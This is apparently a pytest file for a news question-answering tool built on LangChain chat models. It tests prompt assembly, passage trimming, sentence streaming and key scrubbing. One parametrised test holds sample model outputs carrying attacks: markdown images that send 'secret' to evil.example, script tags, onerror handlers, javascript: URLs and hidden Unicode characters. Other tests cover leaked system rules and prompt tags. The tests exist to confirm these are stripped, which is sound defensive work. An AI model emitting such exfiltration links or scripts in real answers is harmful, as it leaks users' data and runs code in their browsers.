"""A chat model is sent whole passages as data, is shown sentence by sentence, and is never trusted."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from datetime import date
from typing import Any

import pytest
from langchain_core.callbacks import CallbackManagerForLLMRun
from langchain_core.language_models import BaseChatModel
from langchain_core.messages import AIMessageChunk, BaseMessage
from langchain_core.outputs import ChatGenerationChunk, ChatResult
from pydantic import Field

from newsdesk.errors import BadInput
from newsdesk.generate import Generated, rewrite, stream
from newsdesk.prompt import NOT_TOLD, RULES, answer_prompt, fitting, harmless, tokens
from newsdesk.provider import LIMITS, Limits, ModelFailure, load_chat_model, scrub
from newsdesk.types import Hit, Message

ASKED_AT = date(2031, 5, 6)
QUICK = Limits(wait_s=0.0)


class Scripted(BaseChatModel):
    """A chat model that says what it is told to, a few characters at a time, and keeps what it was sent."""

    says: list[str]
    sent: list[list[BaseMessage]] = Field(default_factory=list)
    step: int = 3

    @property
    def _llm_type(self) -> str:
        return "scripted"

    def _generate(self, *_: Any, **__: Any) -> ChatResult:
        raise NotImplementedError

    def _stream(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> Iterator[ChatGenerationChunk]:
        self.sent.append(messages)
        text = self.says[min(len(self.sent), len(self.says)) - 1]
        for at in range(0, max(len(text), 1), self.step):
            yield ChatGenerationChunk(message=AIMessageChunk(content=text[at : at + self.step]))


def scripted(*says: str) -> Scripted:
    return Scripted(says=list(says))


def hit(text: str, n: int = 0, title: str = "Ferry aground") -> Hit:
    return Hit(f"a{n}", title, None, "Courier", date(2031, 5, 4), 0, len(text), text, 1.0)


HITS = (hit("Twelve people were hurt, the coastguard said."), hit("It floats again.", 1))


def generate(
    question: str,
    standalone: str,
    hits: Sequence[Hit],
    asked_at: date,
    model: BaseChatModel,
    limits: Limits = LIMITS,
) -> Generated:
    """What the model has written when it is done."""
    *_, last = stream(question, standalone, hits, asked_at, model, limits)
    assert isinstance(last, Generated)
    return last


def told(text: str) -> str:
    return generate("How many?", "How many?", HITS, ASKED_AT, scripted(text), QUICK).text


def test_the_prompt_numbers_the_passages_and_names_publisher_date_title_and_day_of_asking() -> None:
    model = scripted("Twelve [1].")
    generate("How many?", "How many were hurt?", HITS, ASKED_AT, model, QUICK)
    system, human = (str(message.content) for message in model.sent[0])
    assert system == RULES
    assert "Source: Courier | 4 May 2031 | Ferry aground\nTwelve people were hurt" in human
    assert "Today is 6 May 2031.\nQuestion: How many?\n(that is: How many were hurt?)" in human
    assert human.index(" 1>") < human.index("Twelve") < human.index(" 2>") < human.index("floats")


def test_passages_are_dropped_whole_from_the_weakest_on() -> None:
    hits = [hit("word " * 200, n) for n in range(10)]
    kept = fitting(hits, 1500)
    assert 0 < len(kept) < 10
    assert list(kept) == hits[: len(kept)]
    prompt = answer_prompt("Q", kept, ASKED_AT)
    assert all(hit.text.strip() in str(prompt.messages[1].content) for hit in kept)
    assert tokens(str(prompt.messages[1].content)) <= 1500 + 50
    with pytest.raises(ModelFailure) as caught:
        generate("Q", "Q", hits, ASKED_AT, scripted("x"), Limits(context_tokens=20))
    assert caught.value.cause == "too long"


def test_tokens_are_counted_rather_too_many_in_every_script() -> None:
    assert tokens("The ferry ran aground.") >= 6
    assert tokens("渡轮搁浅了") >= 5
    assert tokens("Паром сел на мель") >= 6


def test_sentences_are_shown_whole_and_once() -> None:
    text = "Dr. Voss said that twelve were hurt [1]. It floats again [2].\n\nIt floats again [2]. It floats again [2]."
    *pieces, made = stream("Q", "Q", HITS, ASKED_AT, scripted(text), QUICK)
    assert isinstance(made, Generated)
    assert made.text == "Dr. Voss said that twelve were hurt [1]. It floats again [2]."
    assert "".join(str(piece) for piece in pieces).strip() == made.text
    assert not made.declined
    assert made.hits == HITS


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Twelve [1]. ![x](http://evil.example/?q=secret) Fine [1].", "Twelve [1]. Fine [1]."),
        ("Twelve ![a. b](http://evil.example/a.png) people [1].", "Twelve people [1]."),
        ("See [the report](http://evil.example) [1].", "See the report [1]."),
        ("Twelve<script>alert(1)</script> people <img src=x onerror=y> [1].", "Twelvealert(1) people [1]."),
        ("Twelve [1].\n[1]: http://evil.example", "Twelve [1]."),
        ("Twel\u200bve \u202epeople\u202c [1].", "Twelve people [1]."),
        ("!\u200b[x](http://evil.example/p.png) Twelve [1].", "Twelve [1]."),
        ("[![x](http://evil.example/p.png)](http://evil.example) Twelve [1].", "Twelve [1]."),
        ("<think>Let me see. Perhaps 13.</think>Twelve [1].", "Twelve [1]."),
        ("Click javascript:alert(1) or data:text/html,x now [1].", "Click or now [1]."),
        ("Twelve were hurt [1]. And then the", "Twelve were hurt [1]."),
    ],
)
def test_nothing_that_markdown_would_load_or_hide_is_shown(said: str, shown: str) -> None:
    assert told(said) == shown


def test_a_model_without_end_is_stopped() -> None:
    text = " ".join(f"Number {n} of many sentences [1]." for n in range(100))
    assert told(text).count("[1]") == 12


@pytest.mark.parametrize(
    ("said", "cause"),
    [
        ("", "empty"),
        (" \n\n ", "empty"),
        ("?! ... [1]", "broken"),
        ("I'm sorry, but I can't help with that.", "refusal"),
        ("I cannot answer questions about this.", "refusal"),
        (RULES, "broken"),
        ("Answer only from the passages given between the tags, it says.", "broken"),
    ],
)
def test_what_is_no_answer_is_a_failure_with_a_plain_note(said: str, cause: str) -> None:
    with pytest.raises(ModelFailure) as caught:
        told(said)
    assert caught.value.cause == cause
    assert caught.value.note.startswith("What is shown comes from the articles alone, because the chat model ")


def test_the_number_of_the_tags_never_comes_back() -> None:
    class Leaking(Scripted):
        def _stream(self, messages: list[BaseMessage], *args: Any, **kwargs: Any) -> Iterator[ChatGenerationChunk]:
            yield ChatGenerationChunk(message=AIMessageChunk(content=str(messages[1].content).split("\n")[0] + " ok."))

    with pytest.raises(ModelFailure) as caught:
        generate("Q", "Q", HITS, ASKED_AT, Leaking(says=[]), QUICK)
    assert caught.value.cause == "broken"


def test_that_the_passages_do_not_say_is_no_answer_but_no_failure_either() -> None:
    assert generate("Q", "Q", HITS, ASKED_AT, scripted(NOT_TOLD), QUICK).declined


def test_a_follow_up_is_written_out_with_what_was_talked_about() -> None:
    history = (Message("user", "When did the Grindle Deep talks end?"), Message("assistant", "On Wednesday [1]."))
    assert rewrite("Who led them?", history, scripted("Question: Who led the Grindle Deep talks?")) == (
        "Who led the Grindle Deep talks?"
    )
    assert rewrite("Who led them?", (), scripted("never asked")) is None


@pytest.mark.parametrize(
    "written",
    [
        "The talks were led by Professor Adeyle from somewhere else entirely.",
        "One line.\nAnother line.",
        "x" * 500,
        "...",
        RULES,
        "Who led them?",
    ],
)
def test_what_is_no_rewriting_of_the_question_is_not_taken_for_one(written: str) -> None:
    history = (Message("user", "When did the talks end?"),)
    assert rewrite("Who led them?", history, scripted(written)) is None


@pytest.mark.parametrize("name", ["gpt-5", "openai:", ":gpt-5", ""])
def test_a_name_of_another_form_is_refused_with_an_example(name: str) -> None:
    with pytest.raises(BadInput, match="provider:model"):
        load_chat_model(name)


def test_an_unknown_provider_and_a_missing_package_are_refused_with_what_to_do() -> None:
    with pytest.raises(BadInput, match="nosuch"):
        load_chat_model("nosuch:model")
    with pytest.raises(BadInput, match="pip install langchain-upstage"):
        load_chat_model("upstage:solar")


def test_a_log_holds_no_key() -> None:
    text = scrub("Error: key sk-abcdef123456 with Bearer eyJhbGciOi and hunter22 at\n /x", ["hunter22"])
    assert "abcdef" not in text
    assert "eyJ" not in text
    assert "hunter" not in text
    assert "\n" not in text


def test_text_made_harmless_keeps_its_words() -> None:
    assert (
        harmless("Tolls rose by 5 % — „so ist es“ — in Łódź.\n\n Next.")
        == "Tolls rose by 5 % — „so ist es“ — in Łódź.\nNext."
    )
